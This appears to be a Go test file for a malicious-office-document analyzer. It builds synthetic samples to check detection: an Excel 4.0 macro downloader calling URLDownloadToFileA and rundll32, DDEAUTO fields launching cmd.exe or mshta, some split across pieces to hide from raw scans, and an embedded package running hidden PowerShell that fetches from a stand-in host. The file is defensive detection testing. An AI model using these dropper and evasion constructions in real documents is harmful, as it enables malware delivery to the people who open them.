package office

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/testutil/testdoc"
)

// dropperFormulas is the shape of an Excel 4.0 downloader: REGISTER
// urlmon's URLDownloadToFileA, CALL it, EXEC the result, HALT.
func dropperFormulas(ver int) [][]byte {
	reg := append(append(append(testdoc.PtgStr(ver, "urlmon"), testdoc.PtgStr(ver, "URLDownloadToFileA")...), testdoc.PtgStr(ver, "JJCCJJ")...), testdoc.PtgFuncVar(3, testdoc.FtabRegister)...)
	call := append(testdoc.PtgStr(ver, "http://example.invalid/a.dll"), testdoc.PtgFuncVar(1, testdoc.FtabCall)...)
	exec := append(testdoc.PtgStr(ver, "rundll32 a.dll,Start"), testdoc.PtgFunc(testdoc.FtabExec)...)
	return [][]byte{reg, call, exec, testdoc.PtgFunc(testdoc.FtabHalt)}
}

func benignFormulas(ver int) [][]byte {
	return [][]byte{append(testdoc.PtgStr(ver, "total"), testdoc.PtgFuncVar(1, testdoc.FtabSum)...)}
}

func TestXLMBinaryWorkbooks(t *testing.T) {
	for _, ver := range []int{5, 8} {
		x := testdoc.XLS(ver, []testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(ver)}, {Name: "Macro1", Macro: true, State: 2, Formulas: dropperFormulas(ver)}}, true)
		r := AnalyzeOLE(x, Limits{})
		if r.Kind != "xls" || !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || !slices.Equal(r.XLMSheets, []string{"Macro1"}) {
			t.Fatalf("BIFF%d: %+v", ver, r)
		}
		for _, c := range []string{"REGISTER", "CALL", "EXEC", "HALT", "URLDownloadToFileA", "rundll32 a.dll,Start"} {
			if !slices.Contains(r.XLMCalls, c) {
				t.Errorf("BIFF%d: %s missing from %q", ver, c, r.XLMCalls)
			}
		}
		// benign twin: worksheets with ordinary formulas
		b := AnalyzeOLE(testdoc.XLS(ver, []testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(ver)}, {Name: "Sheet2", State: 1}}, false), Limits{})
		if b.XLM || b.XLMHidden || b.XLMAutoOpen || len(b.XLMCalls) > 0 {
			t.Errorf("BIFF%d benign: %+v", ver, b)
		}
	}
}

func TestXLMXLSB(t *testing.T) {
	x := testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(12)}, {Name: "Macro1", Macro: true, State: 1, Formulas: dropperFormulas(12)}}, true)
	r := AnalyzeOOXML(openZip(t, x), Limits{})
	if r.Kind != "xlsb" || !r.XLM || !r.XLMHidden || !r.XLMAutoOpen {
		t.Fatalf("%+v", r)
	}
	for _, c := range []string{"REGISTER", "CALL", "EXEC", "URLDownloadToFileA"} {
		if !slices.Contains(r.XLMCalls, c) {
			t.Errorf("%s missing from %q", c, r.XLMCalls)
		}
	}
	// visible macro sheet, no Auto_Open: still XLM, not hidden
	r = AnalyzeOOXML(openZip(t, testdoc.XLSB([]testdoc.Sheet{{Name: "M", Macro: true, Formulas: dropperFormulas(12)}}, false)), Limits{})
	if !r.XLM || r.XLMHidden || r.XLMAutoOpen {
		t.Fatalf("visible: %+v", r)
	}
	b := AnalyzeOOXML(openZip(t, testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(12)}, {Name: "Hidden", State: 2}}, false)), Limits{})
	if b.XLM || b.XLMHidden || b.XLMAutoOpen || b.Kind != "xlsb" {
		t.Fatalf("benign: %+v", b)
	}
}

func TestVBACapabilities(t *testing.T) {
	cases := []struct {
		code string
		caps []string
		runs bool
	}{
		{"Private Sub CommandButton1_Click()\r\nShell \"cmd /c calc\", vbHide\r\nEnd Sub", []string{"shell"}, true},
		{"Private Sub ComboBox1_Change()\r\nSet h = CreateObject(\"Microsoft.XMLHTTP\")\r\nh.Open \"GET\", u, False\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"a.exe\", 2\r\nEnd Sub",
			[]string{"create-object", "download", "file-write"}, true},
		{"Sub Go()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"calc\"\r\nEnd Sub", []string{"create-object", "wmi"}, false},
		{"Sub UserForm_Activate()\r\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\x\", 1\r\nEnd Sub", []string{"create-object", "registry", "shell"}, true},
		{"Sub Save()\r\nOpen \"c:\\out.txt\" For Output As #1\r\nPrint #1, \"x\"\r\nClose #1\r\nEnd Sub", []string{"file-write"}, false},
		{"Sub Button1_Click()\r\nMsgBox \"Hello\"\r\nRange(\"A1\").Value = 1\r\nEnd Sub", nil, false},
	}
	for _, c := range cases {
		got := Classify(c.code)
		if !slices.Equal(got.Capabilities, c.caps) {
			t.Errorf("%q: capabilities %v want %v", c.code, got.Capabilities, c.caps)
		}
		if got.RunsCode() != (len(c.caps) > 0 && (slices.Contains(c.caps, "shell") || slices.Contains(c.caps, "download") || slices.Contains(c.caps, "wmi"))) {
			t.Errorf("%q: RunsCode %v", c.code, got.RunsCode())
		}
		if c.runs && len(got.Triggers) == 0 {
			t.Errorf("%q: no trigger found", c.code)
		}
	}
}

func TestWordBinaryDDE(t *testing.T) {
	for _, wide := range []bool{false, true} {
		doc := testdoc.WordDoc("Dear customer\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14\x15\r", wide, nil)
		r := AnalyzeOLE(doc, Limits{})
		if r.Kind != "doc" || len(r.DDE) != 1 || !strings.HasPrefix(r.DDE[0], "DDEAUTO") {
			t.Errorf("wide=%v: %+v", wide, r)
		}
		// benign twins: other fields, and DDE in running text
		b := AnalyzeOLE(testdoc.WordDoc("See page \x13 PAGE \x14 3\x15 and \x13 HYPERLINK \"http://example.com\" \x14link\x15. DDE links are old.", wide, nil), Limits{})
		if len(b.DDE) != 0 {
			t.Errorf("wide=%v benign: %q", wide, b.DDE)
		}
	}
}

// TestWordDDEPieces: a DDEAUTO instruction whose text is split over
// pieces stored apart (8-bit and UTF-16, in reverse order with filler
// between: the raw stream shows no DDE instruction), and one split by a
// nested field ("DD{QUOTE}EAUTO", or spelled by a nested field's result),
// are found through the piece table and nested-field results. Benign
// twins: split HYPERLINK and PAGE fields, nested QUOTE in an ordinary
// field, DDEAUTO named in running text.
func TestWordDDEPieces(t *testing.T) {
	type P = testdoc.WordPiece
	pos := map[string][]P{
		"two pieces":    {{Text: "Dear customer,\r\x13 DD", Wide: false}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}},
		"three pieces":  {{Text: "Hello \x13D", Wide: true}, {Text: "DEA", Wide: false}, {Text: "UTO c:\\Windows\\System32\\mshta.exe http://example.invalid/a \x15", Wide: true}},
		"nested empty":  {{Text: "x \x13DD\x13 QUOTE \"\" \x14\x15EAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"\x15 y", Wide: false}},
		"nested spells": {{Text: "x \x13\x13 QUOTE 68 68 69 \x14DDE\x15 c:\\windows\\system32\\cmd.exe \"/c calc\" \x15 y", Wide: true}},
	}
	for name, pieces := range pos {
		doc := testdoc.WordDocPieces(pieces)
		r := AnalyzeOLE(doc, Limits{})
		if r.Kind != "doc" || len(r.DDE) == 0 || !strings.HasPrefix(strings.ToUpper(r.DDE[0]), "DDE") {
			t.Errorf("%s: %+v", name, r)
		}
		// the raw stream alone does not show it
		raw := &Report{}
		raw.wordFields(streamOf(t, doc, "WordDocument"))
		if len(raw.DDE) > 0 {
			t.Errorf("%s: test document is not split: %q", name, raw.DDE)
		}
	}
	neg := map[string][]P{
		"split hyperlink": {{Text: "See \x13 HYPER", Wide: false}, {Text: "LINK \"https://example.com/dde\" \x14site\x15 and \x13 PA", Wide: true}, {Text: "GE \x14 3\x15.", Wide: false}},
		"nested quote":    {{Text: "\x13 IF \x13 QUOTE 1 \x14 1\x15 = 1 \"DDE\" \"no\" \x14DDE\x15 text", Wide: true}},
		"running text":    {{Text: "Never enable DDE", Wide: false}, {Text: "AUTO links: see \x13 REF ddeauto \x14x\x15.", Wide: true}},
	}
	for name, pieces := range neg {
		if r := AnalyzeOLE(testdoc.WordDocPieces(pieces), Limits{}); len(r.DDE) > 0 {
			t.Errorf("benign %s: %q", name, r.DDE)
		}
	}
}

func TestOLEPackageCommand(t *testing.T) {
	cmd := testdoc.Ole10Native("readme.txt", `C:\Windows\System32\cmd.exe`, 1, `cmd.exe /c powershell -w hidden -c "iwr http://example.invalid/a"`, nil)
	exe := testdoc.Ole10Native("invoice.pdf", `C:\Users\a\invoice.exe`, 3, `C:\Temp\invoice.exe`, append([]byte("MZ"), make([]byte, 64)...))
	pdf := testdoc.Ole10Native("report.pdf", `C:\Users\a\report.pdf`, 3, `C:\Temp\report.pdf`, []byte("%PDF-1.4\n"))
	containers := map[string]func(native []byte) *Report{
		"doc": func(n []byte) *Report {
			return AnalyzeOLE(testdoc.WordDoc("text", false, map[string][]byte{"ObjectPool/_1234/\x01Ole10Native": n}), Limits{})
		},
		"xls": func(n []byte) *Report {
			return AnalyzeOLE(testdoc.CFB(map[string][]byte{"Workbook": testdoc.BIFFRecord(0x000a, nil), "MBD0001/\x01Ole10Native": n}), Limits{})
		},
		"docx": func(n []byte) *Report {
			return AnalyzeOOXML(openZip(t, testdoc.Zip(map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w:document/>"),
				"word/embeddings/oleObject1.bin": testdoc.CFB(map[string][]byte{"\x01Ole10Native": n})})), Limits{})
		},
		"rtf": func(n []byte) *Report {
			return AnalyzeRTF(testdoc.RTFObject("Package", testdoc.OLE1("Package", n[4:])), Limits{})
		},
	}
	for kind, open := range containers {
		r := open(cmd)
		if len(r.OLEPackageCommand) == 0 || !strings.Contains(strings.Join(r.OLEPackageCommand, " "), "powershell") {
			t.Errorf("%s command: %+v", kind, r)
		}
		r = open(exe)
		if !slices.Contains(r.OLEPackage, "invoice.exe") || len(r.Embedded) != 1 || !bytes.HasPrefix(r.Embedded[0].Data, []byte("MZ")) {
			t.Errorf("%s exe: %+v", kind, r)
		}
		r = open(pdf)
		if len(r.OLEPackageCommand) != 0 || !slices.Contains(r.OLEPackage, "report.pdf") {
			t.Errorf("%s pdf: %+v", kind, r)
		}
	}
}

func TestRTFExploitClasses(t *testing.T) {
	eqCLSID := guidBytes("0002ce02-0000-0000-c000-000000000046")
	cases := []struct {
		name string
		rtf  []byte
	}{
		{"objclass Equation.3", testdoc.RTFObject("Equation.3", testdoc.OLE1("Equation.3", testdoc.CFB(map[string][]byte{"Contents": {1}})))},
		{"OLE2Link class", testdoc.RTFObject("", testdoc.OLE1("OLE2Link", testdoc.CFB(map[string][]byte{"Contents": {1}})))},
		{"root CLSID", testdoc.RTFObject("", testdoc.OLE1("xyzzy", testdoc.SetRootCLSID(testdoc.CFB(map[string][]byte{"Contents": {1}}), eqCLSID)))},
		{"Equation Native stream", testdoc.RTFObject("", testdoc.OLE1("abc", testdoc.CFB(map[string][]byte{"Equation Native": make([]byte, 40)})))},
		{"CLSID in text", []byte(`{\rtf1{\object\objocx{\*\objdata 0105}}{\*\clsid 0002CE02-0000-0000-C000-000000000046}}`)},
	}
	for _, c := range cases {
		if r := AnalyzeRTF(c.rtf, Limits{}); !r.RTFExploitable || r.RTFExploitClass == "" {
			t.Errorf("%s: %+v", c.name, r)
		}
	}
	if cfbRootCLSID(testdoc.SetRootCLSID(testdoc.CFB(map[string][]byte{"a": {1}}), eqCLSID)) == nil {
		t.Fatal("root CLSID not read")
	}
	// Malformed RTF, and RTF that only talks about equations, is no exploit.
	benign := map[string][]byte{
		"unbalanced":      []byte(`{\rtf1\ansi{{{{{{\b bold}}}}}}}}}}}} text {\*\objdata zz-not-hex-at-all`),
		"truncated":       []byte(`{\rtf1\ansi{\object\objemb{\*\objclass Word.Picture}{\*\objdata 01050000020000000b000000576f72`),
		"odd header":      []byte("{\\rtvpn\\ansi\x00\x01\x02\xff\xfe{\\pict\\wmetafile8 0102030405}}"),
		"mentions eq":     []byte(`{\rtf1\ansi Insert an equation with Equation.3 or the new editor (CLSID 0002CE02-0000-0000-C000-000000000046 is the old one).\par}`),
		"picture object":  testdoc.RTFObject("Paint.Picture", testdoc.OLE1("Paint.Picture", []byte("BM\x00\x00"))),
		"deep nesting":    bytes.Repeat([]byte("{"), 100000),
		"binary garbage":  append([]byte(`{\rtf1`), bytes.Repeat([]byte{0xff, '\\', 'o', 'b', 'j', 0}, 5000)...),
		"objdata garbage": []byte(`{\rtf1{\object{\*\objdata ` + strings.Repeat("g1h2", 1000) + `}}}`),
	}
	for name, b := range benign {
		if r := AnalyzeRTF(b, Limits{}); r.RTFExploitable {
			t.Errorf("%s flagged as exploit: %+v", name, r)
		}
	}
}

// TestEncryptedXLSDefaultPassword: a BIFF8 workbook encrypted with RC4 or
// RC4 CryptoAPI under Excel's default password "VelvetSweatshop" (it opens
// without a prompt) is decrypted and its macro sheets read; under another
// password it stays encrypted (the analyzer's unscannable finding) and
// its sheets unseen. Benign twin: a default-password workbook with
// ordinary sheets only.
func TestEncryptedXLSDefaultPassword(t *testing.T) {
	// 300 ordinary formulas first: the macro sheet lies blocks (1024 bytes,
	// one RC4 key each) into the stream.
	var many [][]byte
	for i := 0; i < 300; i++ {
		many = append(many, benignFormulas(8)...)
	}
	sheets := []testdoc.Sheet{{Name: "Sheet1", Formulas: many}, {Name: "Macro1", Macro: true, State: 2, Formulas: dropperFormulas(8)}}
	for _, capi := range []bool{false, true} {
		kind := map[bool]string{false: "rc4", true: "rc4-cryptoapi"}[capi]
		r := AnalyzeOLE(testdoc.EncryptedXLS(sheets, true, DefaultExcelPassword, capi), Limits{})
		if !r.Encrypted || r.EncryptionType != kind || !r.DefaultPassword {
			t.Fatalf("%s: %+v", kind, r)
		}
		if !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || !slices.Equal(r.XLMSheets, []string{"Macro1"}) {
			t.Errorf("%s: macro sheet not read after decryption: %+v", kind, r)
		}
		for _, c := range []string{"REGISTER", "EXEC", "URLDownloadToFileA"} {
			if !slices.Contains(r.XLMCalls, c) {
				t.Errorf("%s: %s missing from %q", kind, c, r.XLMCalls)
			}
		}
		// another password: encrypted, nothing read
		o := AnalyzeOLE(testdoc.EncryptedXLS(sheets, true, "s3cret", capi), Limits{})
		if !o.Encrypted || o.DefaultPassword || o.XLM || len(o.XLMCalls) > 0 {
			t.Errorf("%s other password: %+v", kind, o)
		}
		// benign twin
		b := AnalyzeOLE(testdoc.EncryptedXLS([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(8)}, {Name: "Sheet2", State: 1}}, false, DefaultExcelPassword, capi), Limits{})
		if !b.DefaultPassword || b.XLM || b.XLMHidden || b.XLMAutoOpen || len(b.XLMCalls) > 0 {
			t.Errorf("%s benign: %+v", kind, b)
		}
	}
}
